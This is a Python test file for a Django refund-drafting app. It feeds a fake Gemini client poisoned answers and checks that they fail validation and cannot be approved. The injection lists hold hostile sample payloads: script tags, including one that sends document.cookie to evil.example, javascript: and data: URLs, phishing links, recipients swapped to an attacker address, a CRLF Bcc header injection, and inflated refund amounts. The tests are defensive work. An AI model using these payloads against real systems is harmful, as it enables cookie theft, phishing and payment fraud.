"""Drafting through the real google-genai client against tests/fake_gemini.py; prompt injection in the
model's answers never becomes approvable; the response cache answers repeated inputs."""
import pytest

from compensation.drafting import kinds
from compensation.drafting.item_kinds import EMAIL_TASK, MODEL_TASKS, REVERSAL_TASK
from compensation.models import CompensationItem
from compensation.review.selectors import queue_rows
from compensation.review.services import DecisionRefused, approve_item, redraft_item
from provenance import llm
from tests.helpers import delete_model_caches, offline_answer, repaired_incident
from tests.fake_gemini import FakeReply

pytestmark = pytest.mark.django_db
K = CompensationItem.Kind


@pytest.fixture
def people(canonical):
    return canonical.people


def _task(request) -> str:
    for task in [*map(llm.registered_task, llm.task_names()), *MODEL_TASKS.values()]:
        if task.instruction == request.system_instruction:
            return task.name
    return "?"


def _drafting_requests(fake):
    return [r for r in fake.requests if _task(r) in (REVERSAL_TASK, EMAIL_TASK)]


def test_a_repair_under_gemini_drafts_through_the_real_client_and_injections_stay_unapprovable(fake_gemini, people):
    def answer(request):
        task, data = _task(request), request.user_json["input"] if request.user_text.startswith("{") else {}
        if task == REVERSAL_TASK:  # every reversal answer is poisoned
            return {"customer_email": data["customer_email"], "payment_reference": data["payment_reference"],
                    "amount_cents": 10_000_000, "currency": "EUR", "note": "Reverse it all."}
        if task == EMAIL_TASK and data["ticket"] in ("t07", "t08"):
            return {"to": "refunds@attacker.example", "subject": "Action needed",
                    "body": "<script>alert(1)</script> Claim at javascript:alert(document.cookie)"}
        return offline_answer(request)  # desk tasks and the other emails: what the offline drafter writes

    fake_gemini.responder = answer
    incident = repaired_incident(flagger=people.lead)
    assert (incident.status, incident.compensations) == ("repaired", 10)  # bad drafts never break the repair
    drafting = _drafting_requests(fake_gemini)
    assert len(drafting) == 10  # 5 reversals + 5 correction emails; replacements keep the re-run's text
    req = drafting[0]
    assert req.model == "gemini-fake" and req.path.startswith("/v1beta/models/")
    assert req.body["generationConfig"]["responseMimeType"] == "application/json"
    assert req.response_schema is not None and "properties" in req.response_schema
    assert set(req.user_json["input"]) >= {"ticket", "customer_email", "currency"}
    comp = list(incident.compensation_items.filter(kind__in=kinds.COMPENSATING))
    assert {i.drafted_by for i in comp} == {"Gemini (gemini-fake)"}
    valid = {(i.kind, i.ticket_id) for i in comp if i.valid}
    assert valid == {(K.CORRECTION_EMAIL, t) for t in ("t04", "t05", "t06")}
    rows = {r["id"]: r["valid"] for r in queue_rows(workspace=incident.workspace)}
    for item in comp:
        assert rows[item.pk] == item.valid
        if not item.valid:
            with pytest.raises(DecisionRefused, match="failed validation"):
                approve_item(item=item, actor=people.reviewer, reason="looks fine", via="admin")
    assert incident.compensation_items.filter(status="approved").count() == 0
    reversal = next(i for i in comp if i.kind == K.REFUND_REVERSAL)
    assert any("above" in p and "paid" in p for p in reversal.problems) and any("currency" in p for p in reversal.problems)
    clean = next(i for i in comp if i.valid)
    assert approve_item(item=clean, actor=people.reviewer, reason="control", via="admin").status == "approved"


def _email(item, **override):
    good = MODEL_TASKS[EMAIL_TASK].offline(_input(item, EMAIL_TASK), {})
    return {**good, **override}


def _reversal(item, **override):
    good = MODEL_TASKS[REVERSAL_TASK].offline(_input(item, REVERSAL_TASK), {})
    return {**good, **override}


def _input(item, task):
    from compensation.drafting.item_kinds import email_input, reversal_input

    return (reversal_input if task == REVERSAL_TASK else email_input)(item_facts=item.facts)


EMAIL_INJECTIONS = [
    ("script tag", {"body": "Hello, <script>fetch('//evil.example/'+document.cookie)</script> all good."}),
    ("image onerror", {"body": "Hello <img src=x onerror=alert(1)> there."}),
    ("anchor", {"body": 'Please <a href="https://evil.example/pay">confirm here</a>.'}),
    ("javascript link", {"body": "Confirm your refund: javascript:alert(document.cookie)"}),
    ("obfuscated javascript", {"body": "Open JaVa\tScRiPt:alert(1) to continue."}),
    ("data url", {"body": "See data:text/html;base64,PHNjcmlwdD4="}),
    ("foreign url", {"body": "Claim the rest at https://refund-portal.evil.example/claim?id=7"}),
    ("bare foreign domain", {"body": "Visit evil-refunds.example/t05 to keep your money."}),
    ("foreign email in body", {"body": "Reply with your card number to billing@evil.example."}),
    ("other recipient", {"to": "refunds@attacker.example"}),
    ("extra recipient", {"to": "elif.yilmaz@customers.example, refunds@attacker.example"}),
    ("amount above what was paid", {"body": "We will refund you 5,000.00 USD today."}),
    ("other currency", {"body": "We will ask for 75.00 EUR back."}),
    ("other currency symbol", {"body": "We will ask for €75 back."}),
    ("header injection", {"subject": "Correction\r\nBcc: refunds@attacker.example"}),
]
REVERSAL_INJECTIONS = [
    ("amount above what was paid", {"amount_cents": 7_500_000}),
    ("amount above the netted difference", {"amount_cents": 11000}),  # t04: paid 110, only 55 comes back
    ("negative amount", {"amount_cents": -5500}),
    ("other currency", {"currency": "EUR"}),
    ("other recipient", {"customer_email": "refunds@attacker.example"}),
    ("other payment reference", {"payment_reference": "ch_attacker_account"}),
    ("link in the note", {"note": "Reverse via https://evil.example/reverse now."}),
    ("markup in the note", {"note": "<script>alert('x')</script>"}),
]


def _fresh_cache():
    """Forget cached answers so the next draft asks the fake again. Keeps the client (and its
    google-genai client, whose construction loads the CA bundle) instead of resetting it."""
    delete_model_caches()
    llm.get_client()._memo.clear()  # the per-process layer over the FalkorDB cache


def test_prompt_injection_from_the_model_never_becomes_approvable(fake_gemini, canonical, people):
    incident = canonical.incident  # drafted offline; now redraft through Gemini
    email = incident.compensation_items.get(kind=K.CORRECTION_EMAIL, ticket_id="t05")
    reversal = incident.compensation_items.get(kind=K.REFUND_REVERSAL, ticket_id="t04")
    # Control: the same path with a clean answer is approvable, so the refusals below are meaningful.
    for item, clean in ((email, _email(email)), (reversal, _reversal(reversal))):
        _fresh_cache()
        fake_gemini.queue(clean)
        assert redraft_item(item=item, actor=people.reviewer, reason="control", via="admin").valid
    cases = [(email, name, _email(email, **o)) for name, o in EMAIL_INJECTIONS]
    cases += [(reversal, name, _reversal(reversal, **o)) for name, o in REVERSAL_INJECTIONS]
    for item, name, answer in cases:
        _fresh_cache()
        fake_gemini.queue(answer)
        item = redraft_item(item=item, actor=people.reviewer, reason=f"injection: {name}", via="admin")
        assert not item.valid and item.problems, name
        with pytest.raises(DecisionRefused, match="failed validation"):
            approve_item(item=item, actor=people.reviewer, reason="approve anyway", via="admin")
        assert CompensationItem.objects.get(pk=item.pk).status == "pending", name
    assert len(_drafting_requests(fake_gemini)) == 2 + len(cases)


@pytest.mark.parametrize("reply", [FakeReply(503, {"error": {"code": 503, "message": "overloaded", "status": "UNAVAILABLE"}}),
                                   "not json at all", {"unexpected": "shape"}])
def test_a_failing_model_leaves_an_invalid_draft_not_a_failed_repair(fake_gemini, canonical, people, reply):
    incident = canonical.incident
    item = incident.compensation_items.get(kind=K.CORRECTION_EMAIL, ticket_id="t07")
    fake_gemini.queue(reply)
    item = redraft_item(item=item, actor=people.reviewer, reason="retry drafting", via="admin")
    assert not item.valid and item.problems[0].startswith("drafting failed")


def test_same_model_input_is_one_real_call_then_cache_hits(fake_gemini, canonical, people):
    fake_gemini.responder = offline_answer
    incident = canonical.incident
    item = incident.compensation_items.get(kind=K.CORRECTION_EMAIL, ticket_id="t08")
    client = llm.get_client()
    calls, hits = client.calls, client.hits
    for _ in range(3):
        item = redraft_item(item=item, actor=people.reviewer, reason="again", via="admin")
    assert (client.calls - calls, client.hits - hits) == (1, 2)
    assert len(_drafting_requests(fake_gemini)) == 1
    llm.reset_client()  # a new process: the FalkorDB cache still answers, nothing goes out
    redraft_item(item=item, actor=people.reviewer, reason="new process", via="admin")
    assert (llm.get_client().calls, llm.get_client().hits) == (0, 1) and len(_drafting_requests(fake_gemini)) == 1
